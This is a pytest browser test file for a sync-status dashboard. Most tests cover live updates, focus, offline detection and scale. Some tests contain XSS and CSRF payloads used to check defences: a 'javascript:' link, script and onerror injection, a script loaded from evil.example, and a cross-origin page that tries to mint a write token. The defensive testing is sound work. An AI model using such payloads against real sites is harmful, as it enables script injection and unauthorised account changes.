"""Pages follow what happens, say when they cannot, and run nothing that a site sends."""

from __future__ import annotations

from pathlib import Path

import pytest

from reconciler.model.event import EventType
from tests.browser.chromium import Chromium
from tests.browser.conftest import NewPage
from tests.browser.crowd import fill
from tests.browser.local_hub import LocalHub, Moment
from tests.browser.story import EVIL, FIRST, NEWEST, SECOND, Reporter

pytestmark = [pytest.mark.cluster, pytest.mark.slow, pytest.mark.timeout(240)]


def label(state: str, site: str = "a") -> str:
    return f"document.querySelector('[data-site={site}]')?.getAttribute('aria-label') === '{site}: {state}'"


def test_a_change_is_on_the_page_at_once_and_focus_stays(
    local_hub: LocalHub, open_page: NewPage, tmp_path: Path
) -> None:
    site = Reporter(tmp_path / "a", local_hub, site="a", labels={"region": "north"})
    site.apply(FIRST, create=9)
    site.beat()
    site.send()
    page = open_page(local_hub)
    page.run("document.querySelector('[data-site=a]').focus()")
    page.run("window.here = true")
    site.beat("Degraded", "Unhealthy", "a pod crashes")
    site.send()
    page.until(label("Degraded"))
    assert "a pod crashes" in page.text(".looks")
    assert page.run("document.activeElement.dataset.site") == "a"
    other = Reporter(tmp_path / "b", local_hub, site="b")
    other.apply(SECOND, create=9)
    other.send()
    page.until("document.querySelectorAll('.cells a').length === 2")
    # A newer revision leaves the first site behind, although that said nothing new.
    page.until("document.querySelector('.looks').innerText.includes('1 behind')")
    assert page.run("window.here")
    assert page.complaints() == []


def test_a_site_s_page_follows_and_keeps_what_is_open(
    local_hub: LocalHub, open_page: NewPage, tmp_path: Path
) -> None:
    site = Reporter(tmp_path / "a", local_hub, site="a")
    site.apply(FIRST, create=9)
    site.send()
    page = open_page(local_hub, "#/sites/a")
    page.run("document.querySelector('details').open = true; document.querySelector('summary').focus()")
    site.apply(SECOND, update=1)
    site.send()
    page.until("document.querySelectorAll('details').length === 2")
    assert page.run("[...document.querySelectorAll('details')].map((part) => part.open)") == [False, True]
    assert page.run("document.activeElement.parentElement.open") is True
    site.refuse(NEWEST, rule="image-platforms", message="no arm64", location="a.yaml:1:1", hint="build it")
    site.send()
    page.until("document.querySelector('h2 + .findings')?.innerText.includes('no arm64')")


def test_a_revision_s_page_follows(local_hub: LocalHub, open_page: NewPage, tmp_path: Path) -> None:
    for name in ("a", "b"):
        site = Reporter(tmp_path / name, local_hub, site=name)
        site.apply(FIRST, create=9)
        site.send()
    page = open_page(local_hub, f"#/revisions/{FIRST}")
    page.until("document.querySelectorAll('.cells a').length === 2")
    page.run("document.querySelector('[data-site=b]').focus()")
    site.beat("Degraded", "Unhealthy", "a pod crashes")
    site.send()
    page.until(label("Degraded", "b"))
    assert page.run("document.activeElement.dataset.site") == "b"
    site.apply(SECOND, update=1)
    site.send()
    page.until("document.querySelectorAll('.cells a').length === 1")
    page.until("document.querySelector('.legend').innerText.includes('have a newer one')")
    page.run(f"location.hash = '#/revisions/{SECOND}'")
    page.until("document.querySelector('.legend')?.innerText.includes('have an older one')")
    assert page.complaints() == []


def test_selected_text_stays(local_hub: LocalHub, open_page: NewPage, tmp_path: Path) -> None:
    site = Reporter(tmp_path / "a", local_hub, site="a")
    site.apply(FIRST, create=9)
    site.send()
    other = Reporter(tmp_path / "b", local_hub, site="b")
    page = open_page(local_hub, "#/sites/a")
    page.run("document.getSelection().selectAllChildren(document.querySelector('.timeline'))")
    chosen = page.run("document.getSelection().toString()")
    assert "Applied" in chosen
    other.beat()
    other.send()
    page.run("new Promise((done) => setTimeout(done, 2500))")
    assert page.run("document.getSelection().toString()") == chosen


def test_silence_becomes_offline_by_itself_and_a_lost_hub_is_said(tmp_path: Path, open_page: NewPage) -> None:
    hub = LocalHub(tmp_path, Moment())
    site = Reporter(tmp_path / "a", hub, site="a", heartbeat=4)
    site.beat()
    site.send()
    page = open_page(hub)
    assert page.run(label("Ready"))
    hub.stop()
    page.until("document.getElementById('live').textContent.startsWith('not connected since')")
    # Nobody tells the page, which counts by itself.
    page.until(label("Offline"), timeout=40)
    assert "It was Ready when last heard." in page.text(".looks")
    again = LocalHub(tmp_path, Moment(), port=hub.port)
    try:
        site.beat("Degraded", "Unhealthy", "a pod crashes")
        site.send()
        page.until("document.getElementById('live').textContent === 'live'", timeout=30)
        page.until(label("Degraded"))
    finally:
        again.stop()


def test_who_may_look_no_longer_sees_no_more(local_hub: LocalHub, open_page: NewPage, tmp_path: Path) -> None:
    site = Reporter(tmp_path / "a", local_hub, site="a")
    page = open_page(local_hub)
    (id_,) = [row.id for row in local_hub.core.store.tokens() if row.subject == "ann"]
    local_hub.core.store.delete_token(id_)
    local_hub.core.guard.reload()
    site.beat("Degraded", "Unhealthy", "a secret")
    site.send()
    page.until("location.pathname === '/login'", timeout=40)


def test_a_clock_that_is_years_off_is_shown_and_does_no_harm(
    local_hub: LocalHub, open_page: NewPage, tmp_path: Path
) -> None:
    local_hub.clock.offset = 20 * 365 * 86400.0
    site = Reporter(tmp_path / "a", local_hub, site="a")
    site.apply(FIRST)
    local_hub.clock.offset = 0.0
    site.store.close()
    site = Reporter(tmp_path / "a", local_hub, site="a")
    site.beat()
    site.send()
    page = open_page(local_hub, "#/sites/a")
    assert "just now" in page.text(".cards")
    assert "Invalid" not in page.text()
    assert "NaN" not in page.text()


def test_nothing_that_a_site_sends_is_run(local_hub: LocalHub, open_page: NewPage, tmp_path: Path) -> None:
    site = Reporter(tmp_path / "a", local_hub, site="a", labels={EVIL: EVIL})
    site.emit(EventType.AGENT_STARTED, version=EVIL, platform=EVIL)
    site.emit(
        EventType.SYNC_APPLIED,
        commit=FIRST,
        subject=EVIL,
        resources=3,
        changes=[
            {"resource": EVIL, "action": EVIL, "fields": [{"path": EVIL, "before": EVIL, "after": EVIL}]}
        ],
    )
    site.emit(EventType.DRIFT_DETECTED, commit=FIRST, changes=[{"resource": EVIL, "action": EVIL}])
    site.refuse(NEWEST, rule=EVIL, message=EVIL, location="javascript:document.title='owned'", hint=EVIL)
    site.beat("Degraded", EVIL, EVIL, unhealthy={EVIL: EVIL}, faults=[EVIL])
    site.send()
    for address in (
        "#/",
        "#/?by=region",
        "#/sites/a",
        f"#/revisions/{NEWEST}",
        "#/revisions",
        f"#/sites/{EVIL}",
    ):
        page = open_page(local_hub, address)
        page.run("document.querySelectorAll('details').forEach((part) => { part.open = true; })")
        assert page.run("document.title") != "owned"
        assert page.run("document.querySelectorAll('main img, main script, main [onerror]').length") == 0
        assert page.run("[...document.links].every((link) => link.protocol.startsWith('http'))")
    assert "<img src=x" in open_page(local_hub, "#/sites/a").text()


def test_the_policy_keeps_out_what_would_be_put_into_a_page(local_hub: LocalHub, open_page: NewPage) -> None:
    page = open_page(local_hub)
    page.run(
        "function put(what) {"
        " document.body.append(Object.assign(document.createElement('script'), what)); }"
        "put({textContent: 'window.owned = 1'});"
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.owned = 2\">');"
        "put({src: 'https://evil.example/x.js'})"
    )
    page.until("true")
    assert page.run("new Promise((done) => setTimeout(() => done(window.owned ?? null), 300))") is None
    said = "\n".join(page.complaints())
    assert "Content Security Policy" in said
    with pytest.raises(Exception, match="Failed to fetch"):
        page.run("fetch('https://evil.example/')")


def test_another_origin_s_page_can_neither_read_nor_change_nor_frame(
    local_hub: LocalHub, chromium: Chromium, tmp_path: Path
) -> None:
    page = chromium.page()
    page.cookie(local_hub.url, "wayside_token", local_hub.admin)
    evil = tmp_path / "evil.html"
    evil.write_text(
        f"<form method=post action='{local_hub.url}/v1/tokens'></form>"
        f"<iframe src='{local_hub.url}/'></iframe><script src='{local_hub.url}/v1/overview'></script>"
        "<script>window.answers = Promise.allSettled(["
        f"fetch('{local_hub.url}/v1/overview', {{credentials: 'include'}}),"
        f"fetch('{local_hub.url}/v1/tokens', {{method: 'POST', credentials: 'include', mode: 'no-cors',"
        " headers: {'Content-Type': 'text/plain'},"
        " body: JSON.stringify({kind: 'operator', subject: 'evil', role: 'write'})})"
        "]).then((found) => found.map((one) => one.status + ':' + (one.value?.type ?? '')));</script>"
    )
    before = len(local_hub.core.store.tokens())
    page.go(f"file://{evil}")
    page.until("window.answers")
    assert page.run("window.answers")[0] == "rejected:"
    assert len(local_hub.core.store.tokens()) == before
    refused = "\n".join(page.complaints())
    assert "frame-ancestors" in refused or "ERR_BLOCKED_BY_RESPONSE" in refused
    page.close()


def test_five_thousand_sites_come_in_one_compact_answer(local_hub: LocalHub, open_page: NewPage) -> None:
    fill(local_hub.core, 5000)
    page = open_page(local_hub)
    page.until("document.querySelectorAll('.cells a').length === 5000")
    asked = page.run(
        "performance.getEntriesByType('resource')"
        ".filter((one) => one.name.includes('/v1/') && !one.name.includes('stream'))"
        ".map((one) => [one.name.replace(location.origin, ''), one.encodedBodySize])"
    )
    assert [name for name, _ in asked] == ["/v1/overview"]
    assert 10_000 < asked[0][1] < 200_000
    page.press("/")
    page.write("site-0042")
    page.until("document.querySelectorAll('.cells a').length === 10")
    assert page.heap() < 60 << 20
